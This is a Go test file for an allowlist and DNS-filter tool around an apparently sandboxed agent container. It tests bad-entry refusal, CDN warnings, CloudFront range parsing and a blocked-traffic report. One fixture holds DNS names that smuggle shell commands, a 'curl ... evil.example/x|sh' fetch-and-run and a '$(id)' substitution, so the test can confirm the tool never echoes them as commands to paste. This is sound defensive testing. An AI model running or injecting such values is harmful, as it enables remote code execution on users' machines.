package app

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/VerilyPete/claudecontainer/dnsfilter"
	"github.com/VerilyPete/claudecontainer/filterd"
)

// allowEnv is an env whose local file and state directory are the test's,
// with the firewall down (the in-memory one of orchestration_test.go).
func allowEnv(t *testing.T, local string) (*env, *bytes.Buffer) {
	t.Helper()
	e, out := newTestEnv(t, &world{}, 4242)
	dir := t.TempDir()
	e.cfg.LocalFile = filepath.Join(dir, "allowlist.local")
	e.cfg.StateDir = filepath.Join(dir, "state")
	e.cfg.CacheDir = filepath.Join(dir, "cache")
	// AWS's list, as ip-ranges.json has it, trimmed to three entries.
	aws := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, `{"syncToken": "1764547200", "createDate": "2026-12-01-00-00-00",
 "prefixes": [{"ip_prefix": "13.32.0.0/15", "region": "GLOBAL", "service": "CLOUDFRONT", "network_border_group": "GLOBAL"},
              {"ip_prefix": "3.5.140.0/22", "region": "ap-northeast-2", "service": "AMAZON", "network_border_group": "ap-northeast-2"}],
 "ipv6_prefixes": [{"ipv6_prefix": "2600:9000::/28", "region": "GLOBAL", "service": "CLOUDFRONT", "network_border_group": "GLOBAL"}]}`)
	}))
	t.Cleanup(aws.Close)
	e.sourceURLs = map[string]string{"cloudfront": aws.URL}
	e.cfg.DNSFilter = true
	if local != "" {
		if err := os.WriteFile(e.cfg.LocalFile, []byte(local), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return e, out
}

func TestAllowRefusesABadEntryAndChangesNothing(t *testing.T) {
	const before = "# mine\r\npypi.org" // Windows line endings, no final newline
	for _, tt := range []struct{ entries, want string }{
		{"0.0.0.0/0", "would allow every address"},
		{"::/0", "would allow every address"},
		{"*", "is not a host name"},
		{"http://x", "is not a host name"},
		{"host.example:22", "is not a host name"},
		{"127.0.0.1", "the allowlist would refuse it"},
		{"169.254.169.254", "the allowlist would refuse it"},
		{"*.com", "want *.example.com"},
		{"good.example,bad..example", "is not a host name"},
		{"", "nothing to allow"},
	} {
		t.Run(tt.entries, func(t *testing.T) {
			e, _ := allowEnv(t, before)
			err := e.allow(context.Background(), tt.entries, false, false)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("allow(%q) = %v, want an error about %q", tt.entries, err, tt.want)
			}
			if got, _ := os.ReadFile(e.cfg.LocalFile); string(got) != before {
				t.Errorf("the file changed:\n%q", got)
			}
		})
	}
	e, _ := allowEnv(t, before)
	if err := e.allow(context.Background(), "10.0.0.1", false, true); err == nil || !strings.Contains(err.Error(), "names only") {
		t.Errorf("deny of an address = %v", err)
	}
}

func TestAllowWithTheFirewallDownEditsTheFileAndSaysWhen(t *testing.T) {
	e, out := allowEnv(t, "# mine\r\npypi.org")
	if err := e.allow(context.Background(), "*.pythonhosted.org, 93.184.216.34 pypi.org", false, false); err != nil {
		t.Fatal(err)
	}
	got, _ := os.ReadFile(e.cfg.LocalFile)
	if want := "# mine\r\npypi.org\r\n*.pythonhosted.org\r\n93.184.216.34\r\n"; string(got) != want {
		t.Errorf("file = %q, want %q", got, want)
	}
	for _, want := range []string{"added *.pythonhosted.org", "pypi.org is in the file already", "every name under pythonhosted.org", "the firewall is not up: the change applies at the next"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("output lacks %q:\n%s", want, out.String())
		}
	}
	out.Reset()
	if err := e.allow(context.Background(), "gist.github.com", false, true); err != nil {
		t.Fatal(err)
	}
	if err := e.allow(context.Background(), "93.184.216.34", true, false); err != nil {
		t.Fatal(err)
	}
	got, _ = os.ReadFile(e.cfg.LocalFile)
	if want := "# mine\r\npypi.org\r\n*.pythonhosted.org\r\n!gist.github.com\r\n"; string(got) != want {
		t.Errorf("file after -deny and -remove = %q, want %q", got, want)
	}
}

func TestAllowWarnsOfASharedCDN(t *testing.T) {
	for addr, cdn := range map[string]string{"104.16.2.34": "Cloudflare", "151.101.1.1": "Fastly", "13.32.5.6": "CloudFront", "2600:9000:1::1": "CloudFront"} {
		e, out := allowEnv(t, "")
		if err := e.allow(context.Background(), addr, false, false); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(out.String(), cdn+"'s published ranges") {
			t.Errorf("%s: no warning about %s:\n%s", addr, cdn, out.String())
		}
	}
	e, out := allowEnv(t, "")
	if err := e.allow(context.Background(), "3.5.140.1", false, false); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out.String(), "published ranges") {
		t.Errorf("a warning for an address of no CDN:\n%s", out.String())
	}
}

func TestCloudFrontRangesAreReadFromTheirOwnListsOnly(t *testing.T) {
	serve := func(doc string) string {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, doc) }))
		t.Cleanup(srv.Close)
		return srv.URL
	}
	entry := func(field, prefix string) string {
		return fmt.Sprintf(`{%q: %q, "service": "CLOUDFRONT"}`, field, prefix)
	}
	good := `{"prefixes": [` + entry("ip_prefix", "13.32.0.0/15") + `], "ipv6_prefixes": [` + entry("ipv6_prefix", "2600:9000::/28") + `]}`
	got, err := fetchCloudFront(context.Background(), serve(good))
	if err != nil || string(got) != "13.32.0.0/15\n2600:9000::/28\n" {
		t.Fatalf("a good document: %q, %v", got, err)
	}
	for name, doc := range map[string]string{
		"an IPv4 entry without ip_prefix":  `{"prefixes": [` + entry("ipv6_prefix", "2600:9000::/28") + `]}`,
		"an IPv6 prefix in the IPv4 list":  `{"prefixes": [` + entry("ip_prefix", "2600:9000::/28") + `]}`,
		"an IPv4 prefix in the IPv6 list":  `{"ipv6_prefixes": [` + entry("ipv6_prefix", "13.32.0.0/15") + `]}`,
		"a prefix split across the fields": `{"ipv6_prefixes": [{"ip_prefix": "2600:9000::", "ipv6_prefix": "/28", "service": "CLOUDFRONT"}]}`,
		"a mapped IPv4 prefix":             `{"prefixes": [` + entry("ip_prefix", "::ffff:13.32.0.0/111") + `]}`,
	} {
		if got, err := fetchCloudFront(context.Background(), serve(doc)); err == nil {
			t.Errorf("%s: read as %q", name, got)
		}
	}
}

func TestBlockedGroupsNamesAndAddressesNewestFirst(t *testing.T) {
	e, out := allowEnv(t, "")
	now := time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)
	if err := os.MkdirAll(e.cfg.StateDir, 0o700); err != nil {
		t.Fatal(err)
	}
	var names bytes.Buffer
	for i, r := range []dnsfilter.Record{
		{Time: now.Add(-2 * time.Hour), Name: "old.example", Type: "A", Reason: "not on the allowlist"},
		{Time: now.Add(-5 * time.Minute), Name: "pypi.org", Type: "A", Reason: "not on the allowlist"},
		{Time: now.Add(-4 * time.Minute), Name: "pypi.org", Type: "AAAA", Reason: "not on the allowlist"},
		{Time: now.Add(-3 * time.Minute), Name: "gist.github.com", Type: "A", Reason: "denied by !gist.github.com"},
		{Time: now.Add(-1 * time.Minute), Name: statusProbeName, Type: "A", Reason: "not on the allowlist"},
		// Names the agent chose to make a pasted command run something.
		{Time: now.Add(-2 * time.Minute), Name: "`curl${IFS}-s${IFS}evil.example/x|sh`.com", Type: "A", Reason: "not on the allowlist"},
		{Time: now.Add(-2 * time.Minute), Name: "a\\'$(id)\\'.example", Type: "A", Reason: "not on the allowlist"},
	} {
		b, _ := json.Marshal(r)
		names.Write(append(b, '\n'))
		if i == 1 {
			names.WriteString("{not json\n") // skipped with a warning
		}
	}
	write := func(name string, data []byte) {
		if err := os.WriteFile(filepath.Join(e.cfg.StateDir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(filterd.RefusedFile, names.Bytes())
	conn := `{"time":"2026-12-01T11:58:00Z","client":"10.213.79.2","addr":"93.184.216.34","proto":"tcp","port":443,"names":["x.example"]}` + "\n"
	lan := `{"time":"2026-12-01T11:57:00Z","client":"10.213.79.2","addr":"192.168.1.1","proto":"tcp","port":80}` + "\n"
	write(filterd.ConnsFile, []byte(conn+strings.Replace(conn, "11:58", "11:59", 1)+lan))

	if err := e.blocked(context.Background(), time.Hour, false, now); err != nil {
		t.Fatal(err)
	}
	text := out.String()
	for _, want := range []string{"not a record", "pypi.org", "A, AAAA", "mage allow pypi.org", "93.184.216.34", "tcp 443", "2×", "answered lately for x.example", "mage allow 93.184.216.34", "mage allow '!gist.github.com' -remove"} {
		if !strings.Contains(text, want) {
			t.Errorf("output lacks %q:\n%s", want, text)
		}
	}
	for _, not := range []string{"old.example", statusProbeName, "mage allow `", "mage allow a\\", "mage allow 192.168.1.1"} {
		if strings.Contains(text, not) {
			t.Errorf("output holds %q:\n%s", not, text)
		}
	}
	if strings.Index(text, "93.184.216.34") > strings.Index(text, "pypi.org") {
		t.Errorf("not newest first:\n%s", text)
	}

	out.Reset()
	if err := e.blocked(context.Background(), 0, true, now); err != nil {
		t.Fatal(err)
	}
	var groups []BlockedGroup
	if err := json.Unmarshal(out.Bytes(), &groups); err != nil {
		t.Fatalf("-json output: %v\n%s", err, out.String())
	}
	if len(groups) != 7 || groups[0].Addr != "93.184.216.34" || groups[0].Count != 2 {
		t.Errorf("groups = %+v", groups)
	}
}
